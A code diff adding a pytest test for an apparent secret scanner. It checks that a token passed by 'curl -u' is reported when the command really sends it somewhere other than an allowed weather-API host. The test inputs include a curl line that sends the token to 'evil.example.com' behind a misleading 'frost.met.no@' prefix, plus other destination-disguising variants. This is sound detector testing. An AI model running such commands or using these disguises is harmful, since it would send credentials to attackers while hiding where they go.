@@ -10,6 +10,8 @@ from __future__ import annotations
 import secrets
 import uuid
 
+import pytest
+
 from govern.secrets.rules import RuleSet
 from tests.secrets.found import found
 
@@ -53,3 +55,20 @@ def test_a_login_under_a_comment_calling_it_expired_is_passed_over(rules: RuleSe
         f'IRIS = Client("IRIS", user="obs", password="{live}")\n'
     )
     assert found(rules, "projects/x/scripts/pull.py", script) == [(4, live)]
+
+
+@pytest.mark.parametrize(
+    "after",
+    [
+        "https://api.example.com/v1 && curl -u other: https://frost.met.no/x",
+        "https://api.example.com/v1; echo see https://frost.met.no",
+        "https://api.example.com/v1  # cf https://frost.met.no",
+        '-H "Referer: https://frost.met.no/" https://api.example.com/v1/data',
+        '"https://proxy.example.com/fetch?u=https://frost.met.no/x"',
+        "https://frost.met.no@evil.example.com/",
+    ],
+)
+def test_a_token_sent_elsewhere_beside_a_frost_url_is_reported(rules: RuleSet, after: str) -> None:
+    # Only the command's own target, its first URL argument, says where the value goes.
+    key = secrets.token_urlsafe(21)
+    assert found(rules, ".bash_history", f"curl -u {key}: {after}\n") == [(1, key)]
